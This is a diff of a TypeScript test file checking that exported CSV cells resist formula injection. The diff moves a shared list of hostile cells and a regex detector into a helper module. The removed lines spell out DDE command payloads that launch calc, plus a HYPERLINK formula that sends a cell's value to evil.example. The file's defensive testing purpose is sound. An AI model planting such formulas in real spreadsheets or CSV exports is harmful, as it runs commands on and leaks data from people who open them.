@@ -2,27 +2,13 @@ import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { csvCell, csvCellValue } from "../../upstream/contract/csv";
 import type { Application, ImportJob } from "../../upstream/contract/portfolio";
+import { HOSTILE, runs } from "../helpers/csv";
 import { harness, type Harness } from "./helpers";
 
 /**
  * CSV formula injection (OWASP): every CSV the upstream writes escapes a text cell that a spreadsheet would run, and
  * importing an exported file gives back the same values. The app's own CSV files: tests/app/csv-injection.test.ts.
  */
-
-/** Cells a spreadsheet would run, one per way a formula can start. */
-export const HOSTILE = [
-  "=cmd|' /C calc'!A0",
-  "+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+9)*cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
-  "\t=cmd|' /C calc'!A0",
-  "\r=cmd|' /C calc'!A0",
-  "'=cmd|' /C calc'!A0",
-] as const;
-
-/** A parsed cell that a spreadsheet would evaluate: a formula start, not a plain number (escaped: a quote first). */
-export const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
 
 const records = (text: string) => parse(text, { relax_column_count: true }) as string[][];
 
